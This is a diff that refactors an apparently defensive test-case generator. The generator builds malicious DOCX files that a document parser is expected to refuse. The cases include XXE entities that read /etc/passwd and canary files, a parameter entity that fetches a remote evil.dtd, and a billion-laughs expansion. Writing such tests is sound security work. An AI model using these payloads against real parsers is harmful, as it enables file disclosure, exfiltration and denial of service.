@@ -457,29 +457,31 @@ def _docx_empty_zip(path: Path, _: dict[str, Any]) -> None:
     _write_zip(path, [])
 
 
-@_case("docx_xxe.docx", "document", "refused", "doctype")
-def _docx_xxe(path: Path, options: dict[str, Any]) -> None:
+def _write_doctype_docx(path: Path, declarations: str, text: str) -> None:
+    """A DOCX whose main part declares ``declarations`` in a DOCTYPE and says ``text``."""
     xml = (
         '<?xml version="1.0" encoding="UTF-8"?>'
-        f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">'
-        f'<!ENTITY c SYSTEM "file://{options["canary_file"]}">'
-        f'<!ENTITY n SYSTEM "{options["canary_url"]}/xxe">]>'
-        f'<w:document xmlns:w="{W_NS}"><w:body>'
-        "<w:p><w:r><w:t>1. Leak &x; &c; &n;</w:t></w:r></w:p>"
+        f"<!DOCTYPE w:document [{declarations}]>"
+        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>'
         "</w:body></w:document>"
     )
     _write_zip(path, _docx_members(xml))
+
+
+@_case("docx_xxe.docx", "document", "refused", "doctype")
+def _docx_xxe(path: Path, options: dict[str, Any]) -> None:
+    _write_doctype_docx(
+        path,
+        '<!ENTITY x SYSTEM "file:///etc/passwd">'
+        f'<!ENTITY c SYSTEM "file://{options["canary_file"]}">'
+        f'<!ENTITY n SYSTEM "{options["canary_url"]}/xxe">',
+        "1. Leak &x; &c; &n;",
+    )
 
 
 @_case("docx_xxe_parameter.docx", "document", "refused", "doctype")
 def _docx_xxe_param(path: Path, options: dict[str, Any]) -> None:
-    xml = (
-        '<?xml version="1.0" encoding="UTF-8"?>'
-        f'<!DOCTYPE w:document [<!ENTITY % p SYSTEM "{options["canary_url"]}/evil.dtd"> %p;]>'
-        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>x</w:t></w:r></w:p>'
-        "</w:body></w:document>"
-    )
-    _write_zip(path, _docx_members(xml))
+    _write_doctype_docx(path, f'<!ENTITY % p SYSTEM "{options["canary_url"]}/evil.dtd"> %p;', "x")
 
 
 @_case("docx_billion_laughs.docx", "document", "refused", "doctype")
@@ -487,13 +489,7 @@ def _docx_laughs(path: Path, _: dict[str, Any]) -> None:
     entities = ['<!ENTITY l0 "lollollollollollollollollollol">']
     for i in range(1, 10):
         entities.append(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">')
-    xml = (
-        '<?xml version="1.0" encoding="UTF-8"?>'
-        f"<!DOCTYPE w:document [{''.join(entities)}]>"
-        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p>'
-        "</w:body></w:document>"
-    )
-    _write_zip(path, _docx_members(xml))
+    _write_doctype_docx(path, "".join(entities), "&l9;")
 
 
 @_case("docx_xxe_rels.docx", "document", "refused", "doctype")
